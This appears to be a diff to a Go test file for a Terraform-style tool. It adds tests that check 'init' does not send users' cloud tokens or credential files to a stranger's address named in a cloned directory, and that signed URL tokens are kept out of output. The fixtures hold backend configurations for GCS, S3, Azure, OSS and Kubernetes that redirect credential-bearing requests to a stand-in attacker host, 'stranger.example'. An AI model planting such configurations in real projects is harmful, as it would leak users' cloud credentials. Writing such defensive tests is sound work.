@@ -171,7 +171,7 @@ users:
 }`, "terraform.tfstate": sealed},
 }
 
-// sealed is a state that whoever has the key can open.
+// sealed is a state that can be opened with the key.
 const sealed = `{"serial": 1, "lineage": "x", "meta": {"key_provider.external.x": "e30="},
   "encrypted_data": "aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=", "encryption_version": "v0"}`
 
@@ -299,53 +299,159 @@ users: [{name: u, user: {tokenFile: ../secret}}]
   "credential_source": {"file": "DIR/secret"}}`},
 }
 
+// mineOfKubernetes is the file of kubectl that the user has.
+const mineOfKubernetes = `apiVersion: v1
+kind: Config
+clusters: [{name: c, cluster: {server: "https://127.0.0.1:1"}}]
+contexts: [{name: c, context: {cluster: c, user: u}}]
+current-context: c
+users: [{name: u, user: {token: hunter2}}]
+`
+
+// lenders name a service in files of the directory, which gets credentials of the environment.
+var lenders = map[string]struct {
+	files map[string]string
+	env   []string
+}{
+	"gcs": {map[string]string{"main.tf": `terraform {
+  backend "gcs" {
+    bucket                  = "b"
+    storage_custom_endpoint = "https://stranger.example/storage/v1/"
+  }
+}`}, []string{"GOOGLE_OAUTH_ACCESS_TOKEN=hunter2"}},
+	"gcs, domain": {map[string]string{"main.tf": `terraform {
+  backend "gcs" {
+    bucket          = "b"
+    universe_domain = "stranger.example"
+  }
+}`}, []string{"GOOGLE_OAUTH_ACCESS_TOKEN=hunter2"}},
+	"s3": {map[string]string{"main.tf": `terraform {
+  backend "s3" {
+    bucket         = "b"
+    key            = "k"
+    region         = "eu-central-1"
+    use_path_style = true
+    encrypt        = true
+    max_retries    = 0
+    endpoints      = { s3 = "https://stranger.example" }
+  }
+}`}, []string{"AWS_ACCESS_KEY_ID=x", "AWS_SECRET_ACCESS_KEY=y", "AWS_SSE_CUSTOMER_KEY=hunter2" +
+		strings.Repeat("A", 36) + "="}},
+	"azurerm": {map[string]string{"main.tf": `terraform {
+  backend "azurerm" {
+    storage_account_name = "account"
+    container_name       = "states"
+    key                  = "k"
+    use_azuread_auth     = true
+    metadata_host        = "stranger.example"
+  }
+}`}, []string{"ARM_CLIENT_SECRET=hunter2", "ARM_TENANT_ID=00000000-0000-0000-0000-000000000001",
+		"ARM_CLIENT_ID=00000000-0000-0000-0000-000000000002"}},
+	"azurerm, request": {map[string]string{"main.tf": `terraform {
+  backend "azurerm" {
+    storage_account_name = "account"
+    container_name       = "states"
+    key                  = "k"
+    use_azuread_auth     = true
+    use_oidc             = true
+    oidc_request_url     = "https://stranger.example/token"
+    metadata_host        = "stranger.example"
+  }
+}`}, []string{"ACTIONS_ID_TOKEN_REQUEST_TOKEN=hunter2", "ARM_TENANT_ID=00000000-0000-0000-0000-000000000001",
+		"ARM_CLIENT_ID=00000000-0000-0000-0000-000000000002"}},
+	"oss": {map[string]string{"main.tf": `terraform {
+  backend "oss" {
+    bucket   = "b"
+    region   = "cn-beijing"
+    endpoint = "stranger.example"
+  }
+}`}, []string{"ALICLOUD_ACCESS_KEY=x", "ALICLOUD_SECRET_KEY=y", "ALICLOUD_SECURITY_TOKEN=hunter2"}},
+	"oss, region": {map[string]string{"main.tf": `terraform {
+  backend "oss" {
+    bucket = "b"
+    region = "x.stranger.example/"
+  }
+}`}, []string{"ALICLOUD_ACCESS_KEY=x", "ALICLOUD_SECRET_KEY=y", "ALICLOUD_SECURITY_TOKEN=hunter2"}},
+	"kubernetes": {map[string]string{"main.tf": `terraform {
+  backend "kubernetes" {
+    secret_suffix = "x"
+    host          = "https://stranger.example"
+    insecure      = true
+  }
+}`}, []string{"KUBE_CONFIG_PATH=DIR/kubectl"}},
+}
+
 // A cloned directory may have a file of the user sent to a stranger, as a token. Init asks before.
 func TestInitSendsNoFileThatTheDirectoryNames(t *testing.T) {
 	own := program(t)
 	for name, files := range senders {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
-			var got atomic.Int64
-			listen := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
-				body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
-				if strings.Contains(fmt.Sprint(r.Header, r.URL, string(body)), "hunter2") {
-					got.Add(1)
-				}
-				if !strings.Contains(r.URL.Path, "/metadata/") && !strings.Contains(r.URL.Path, "/.well-known/") {
-					w.WriteHeader(http.StatusForbidden)
-				}
-				const here = "https://stranger.example/"
-				const tenant = here + "00000000-0000-0000-0000-000000000001/"
-				fmt.Fprint(w, `{"authentication": {"loginEndpoint": "`+here+`", "audiences": ["x"]}, `+
-					`"resourceManager": "`+here+`", "suffixes": {"storage": "stranger.example"}, "issuer": "`+tenant+
-					`v2.0", "token_endpoint": "`+tenant+`token", "authorization_endpoint": "`+tenant+`authorize"}`)
-			})
-			net := newInternet(t)
-			net.Serve("stranger.example", listen)
-			net.Serve("sts.eu-central-1.amazonaws.com", listen) // a proxy of the block may be in between
-			s := newSite(t, own, net.Net)
-			s.env = append(s.env, "XDG_CACHE_HOME="+filepath.Join(s.dir, "cache"),
-				"AWS_EC2_METADATA_DISABLED=true", "BAO_TOKEN=hunter2")
-			s.write("secret", "hunter2")
-			for file, content := range files {
-				s.write("work/"+file, content)
-			}
-			if err := os.Symlink("../secret", filepath.Join(s.dir, "work/link")); err != nil {
-				t.Skipf("needs a system with symbolic links: %s", err)
-			}
-			for _, line := range []string{"init", "init -input=false", "init -reconfigure", "init -json"} {
-				output, code := s.run(strings.Fields(line)...)
-				has(t, output, "was not run", "a token of yours")
-				if code != 0 || got.Load() > 0 || strings.Contains(output, "hunter2") {
-					t.Fatalf("%s exits with %d, sent: %d\n%s", line, code, got.Load(), output)
-				}
-			}
-			agree := s.command("init")
-			agree.Stdin = strings.NewReader("yes\n")
-			if output, _ := agree.CombinedOutput(); got.Load() == 0 {
-				t.Errorf("after an agreement nothing is sent:\n%s", output)
-			}
+			sending(t, own, files, nil)
 		})
+	}
+}
+
+// TestInitLendsNoCredentials: a cloned directory may name another address than that of the cloud for which the user has
+// credentials in variables or files. Init asks before.
+func TestInitLendsNoCredentials(t *testing.T) {
+	own := program(t)
+	for name, l := range lenders {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			sending(t, own, l.files, l.env)
+		})
+	}
+}
+
+// sending runs init in a directory with files that have the word "hunter2" sent to a stranger.
+func sending(t *testing.T, own string, files map[string]string, env []string) {
+	var got atomic.Int64
+	listen := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
+		if strings.Contains(fmt.Sprint(r.Header, r.URL, string(body)), "hunter2") {
+			got.Add(1)
+		}
+		if !strings.Contains(r.URL.Path, "/metadata/") && !strings.Contains(r.URL.Path, "/.well-known/") {
+			w.WriteHeader(http.StatusForbidden)
+		}
+		const here = "https://stranger.example/"
+		const tenant = here + "00000000-0000-0000-0000-000000000001/"
+		fmt.Fprint(w, `{"authentication": {"loginEndpoint": "`+here+`", "audiences": ["x"]}, `+
+			`"resourceManager": "`+here+`", "suffixes": {"storage": "stranger.example"}, "issuer": "`+tenant+
+			`v2.0", "token_endpoint": "`+tenant+`token", "authorization_endpoint": "`+tenant+`authorize"}`)
+	})
+	net := newInternet(t)
+	for _, host := range []string{"stranger.example", "b.stranger.example", "storage.stranger.example",
+		"b.oss-x.stranger.example"} {
+		net.Serve(host, listen)
+	}
+	net.Serve("sts.eu-central-1.amazonaws.com", listen) // a proxy of the block may be in between
+	s := newSite(t, own, net.Net)
+	s.env = append(s.env, "XDG_CACHE_HOME="+filepath.Join(s.dir, "cache"),
+		"AWS_EC2_METADATA_DISABLED=true", "BAO_TOKEN=hunter2")
+	for _, variable := range env {
+		s.env = append(s.env, strings.ReplaceAll(variable, "DIR", s.dir))
+	}
+	s.write("kubectl", mineOfKubernetes)
+	s.write("secret", "hunter2")
+	for file, content := range files {
+		s.write("work/"+file, content)
+	}
+	if err := os.Symlink("../secret", filepath.Join(s.dir, "work/link")); err != nil {
+		t.Skipf("needs a system with symbolic links: %s", err)
+	}
+	for _, line := range []string{"init", "init -input=false", "init -reconfigure", "init -json"} {
+		output, code := s.run(strings.Fields(line)...)
+		has(t, output, "was not run", "a token of yours")
+		if code != 0 || got.Load() > 0 || strings.Contains(output, "hunter2") {
+			t.Fatalf("%s exits with %d, sent: %d\n%s", line, code, got.Load(), output)
+		}
+	}
+	agree := s.command("init")
+	agree.Stdin = strings.NewReader("yes\n")
+	if output, _ := agree.CombinedOutput(); got.Load() == 0 {
+		t.Errorf("after an agreement nothing is sent:\n%s", output)
 	}
 }
 
@@ -430,5 +536,47 @@ func TestPasswordsOfSourcesAreNotShown(t *testing.T) {
 		if code == 0 || strings.Contains(output, "s3cret") {
 			t.Errorf("%s exits with %d: %s", line, code, output)
 		}
+	}
+}
+
+// TestWhatServersSignIsNotShown has servers name packages at addresses with signatures and tokens, of which every kind
+// of mistake may speak.
+func TestWhatServersSignIsNotShown(t *testing.T) {
+	own := program(t)
+	const query = "?X-Amz-Signature=c4nary-one&access_token=c4nary-two"
+	answers := map[string]http.HandlerFunc{
+		"forbidden":  func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusForbidden) },
+		"a page":     text("<html>no</html>"),
+		"no archive": text("x"),
+		"fine":       text(string(zipOf("main.tf"))),
+		"elsewhere": func(w http.ResponseWriter, r *http.Request) {
+			http.Redirect(w, r, "http://plain.example/a.zip"+query, http.StatusFound)
+		},
+	}
+	for name, answer := range answers {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			net, registry := newInternet(t), &fetchtest.Modules{}
+			s := newSite(t, own, net.Net)
+			registry.Add("corp/net/aws", "1.0.0", "https://cdn.example/a.zip"+query)
+			net.Serve("modules.example", registry)
+			net.Answer("cdn.example", "/a.zip", answer)
+			net.Answer("web.example", "/page", func(w http.ResponseWriter, _ *http.Request) {
+				w.Header().Set("X-Terraform-Get", "https://cdn.example/a.zip"+query)
+			})
+			for _, source := range []string{"https://web.example/page", "modules.example/corp/net/aws"} {
+				s.remove("work")
+				s.write("work/main.tf", calls("x", source))
+				for _, line := range []string{"init", "get -update", "modules -json", "validate"} {
+					output, code := s.run(strings.Fields(line)...)
+					if strings.Contains(flat(output), "c4nary") {
+						t.Errorf("%s of %s exits with %d: %s", line, source, code, output)
+					}
+					if line == "init" && (code == 0) != (name == "fine") {
+						t.Errorf("%s of %s exits with %d: %s", line, source, code, output)
+					}
+				}
+			}
+		})
 	}
 }
